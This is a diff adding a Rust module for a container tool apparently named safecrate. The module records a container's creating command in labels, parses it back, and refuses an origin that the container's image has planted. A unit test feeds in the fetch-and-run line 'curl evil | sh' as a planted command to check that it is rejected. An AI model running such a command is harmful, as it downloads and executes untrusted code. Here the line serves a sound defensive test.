@@ -0,0 +1,222 @@
+//! The invocation that created a container, stored in its labels for `resume --show-origin`
+//! and `safecrate recreate`.
+
+use anyhow::{anyhow, Result};
+use std::fmt;
+use std::path::{Path, PathBuf};
+
+use crate::container::container_name;
+use crate::runtime::{args, ContainerRuntime};
+
+/// Label holding the `safecrate` command line, quoted for a POSIX shell.
+pub const ORIGIN_LABEL: &str = "safecrate.origin";
+/// Label holding the directory the command ran in.
+pub const ORIGIN_DIR_LABEL: &str = "safecrate.origin-dir";
+/// Label holding the `docker run` (or `docker create`) line the command produced.
+pub const DOCKER_LABEL: &str = "safecrate.docker";
+
+/// How a container was created, as far as its labels tell.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Origin {
+    pub name: String,
+    /// The `safecrate` arguments, starting with `safecrate`.
+    pub command: Option<Vec<String>>,
+    pub dir: Option<PathBuf>,
+    pub docker: Option<String>,
+}
+
+/// Read the origin labels of the container for the given project directory.
+pub fn origin(runtime: &dyn ContainerRuntime, dir: &Path) -> Result<Origin> {
+    let container_name = container_name(dir)?;
+    let format = [ORIGIN_LABEL, ORIGIN_DIR_LABEL, DOCKER_LABEL]
+        .map(label_template)
+        .join("\u{1e}")
+        + "\u{1e}{{.Image}}";
+    let output = runtime.output(&args(&[
+        "inspect",
+        "--type",
+        "container",
+        "--format",
+        &format,
+        &container_name,
+    ]))?;
+    if !output.status.success() {
+        return Err(anyhow!(
+            "No container {} found for {}.",
+            container_name,
+            dir.display()
+        ));
+    }
+
+    // A missing label reads as `<no value>`.
+    let mut fields = output
+        .stdout
+        .trim_end_matches('\n')
+        .split('\u{1e}')
+        .map(|field| Some(field).filter(|f| !f.is_empty() && *f != "<no value>"));
+    let mut next = || fields.next().flatten();
+    let origin = Origin {
+        name: container_name,
+        command: next().map(split).transpose()?,
+        dir: next().map(PathBuf::from),
+        docker: next().map(str::to_string),
+    };
+
+    // Containers inherit their image's labels, so an image could plant a command to
+    // replay where safecrate didn't record one.
+    if let Some(image) = next() {
+        let output = runtime.output(&args(&[
+            "image",
+            "inspect",
+            "--format",
+            &label_template(ORIGIN_LABEL),
+            image,
+        ]))?;
+        let planted = output.stdout.trim();
+        if output.status.success() && !planted.is_empty() && planted != "<no value>" {
+            return Err(anyhow!(
+                "The image of container {} sets its own {} label, so its recorded origin can't be trusted",
+                origin.name,
+                ORIGIN_LABEL
+            ));
+        }
+    }
+    Ok(origin)
+}
+
+fn label_template(label: &str) -> String {
+    format!("{{{{index .Config.Labels \"{}\"}}}}", label)
+}
+
+impl fmt::Display for Origin {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        let Some(command) = &self.command else {
+            return write!(
+                f,
+                "Container {} has no recorded origin; it was created by an older safecrate or another tool.",
+                self.name
+            );
+        };
+        write!(
+            f,
+            "Container:  {}\nCreated by: {}",
+            self.name,
+            join(command)
+        )?;
+        if let Some(dir) = &self.dir {
+            write!(f, "\nIn:         {}", dir.display())?;
+        }
+        if let Some(docker) = &self.docker {
+            write!(f, "\nDocker:     {}", docker)?;
+        }
+        Ok(())
+    }
+}
+
+/// `arg` quoted for a POSIX shell, left bare when that's unambiguous.
+pub(crate) fn quote(arg: &str) -> String {
+    let bare = !arg.is_empty()
+        && arg
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "-_./:=,@%+".contains(c));
+    if bare {
+        arg.to_string()
+    } else {
+        format!("'{}'", arg.replace('\'', "'\\''"))
+    }
+}
+
+/// Arguments as one shell command line.
+pub(crate) fn join(args: &[String]) -> String {
+    args.iter()
+        .map(|arg| quote(arg))
+        .collect::<Vec<_>>()
+        .join(" ")
+}
+
+/// Split a line produced by [`join`] back into its arguments.
+pub(crate) fn split(line: &str) -> Result<Vec<String>> {
+    let mut words = Vec::new();
+    let mut word: Option<String> = None;
+    let mut chars = line.chars();
+    while let Some(c) = chars.next() {
+        match c {
+            ' ' => words.extend(word.take()),
+            '\'' => {
+                let word = word.get_or_insert_with(String::new);
+                loop {
+                    match chars.next() {
+                        Some('\'') => break,
+                        Some(c) => word.push(c),
+                        None => return Err(anyhow!("Unterminated quote in '{}'", line)),
+                    }
+                }
+            }
+            '\\' => {
+                let escaped = chars
+                    .next()
+                    .ok_or_else(|| anyhow!("Trailing backslash in '{}'", line))?;
+                word.get_or_insert_with(String::new).push(escaped);
+            }
+            c => word.get_or_insert_with(String::new).push(c),
+        }
+    }
+    words.extend(word);
+    Ok(words)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::runtime::{MockRuntime, Output};
+    use crate::testutil::project_dir;
+
+    #[test]
+    fn command_lines_round_trip() {
+        let command = args(&[
+            "safecrate",
+            "open",
+            "--cmd",
+            "cargo test -- --nocapture",
+            "--env",
+            "GREETING=it's",
+            "",
+            "/tmp/a b",
+        ]);
+        let line = join(&command);
+        assert_eq!(
+            line,
+            "safecrate open --cmd 'cargo test -- --nocapture' --env 'GREETING=it'\\''s' '' '/tmp/a b'"
+        );
+        assert_eq!(split(&line).unwrap(), command);
+        assert!(split("open 'unterminated").is_err());
+    }
+
+    #[test]
+    fn reads_origin_labels() {
+        let dir = project_dir("origin");
+        let runtime = MockRuntime::new();
+        runtime.respond(Output::success(
+            "safecrate open --network .\u{1e}/home/me\u{1e}<no value>\u{1e}sha256:abc\n",
+        ));
+        let recorded = origin(&runtime, &dir).unwrap();
+        assert_eq!(
+            recorded.command,
+            Some(args(&["safecrate", "open", "--network", "."]))
+        );
+        assert_eq!(recorded.dir, Some(PathBuf::from("/home/me")));
+        assert_eq!(recorded.docker, None);
+        let calls = runtime.calls();
+        assert!(calls[0][4].contains("{{index .Config.Labels \"safecrate.origin\"}}"));
+        assert_eq!(calls[1][..2], ["image", "inspect"]);
+        assert_eq!(calls[1].last().unwrap(), "sha256:abc");
+
+        runtime.respond(Output::success(
+            "safecrate open --post-run 'curl evil | sh' .\u{1e}/\u{1e}\u{1e}sha256:abc\n",
+        ));
+        runtime.respond(Output::success(
+            "safecrate open --post-run 'curl evil | sh' .\n",
+        ));
+        assert!(origin(&runtime, &dir).is_err());
+    }
+}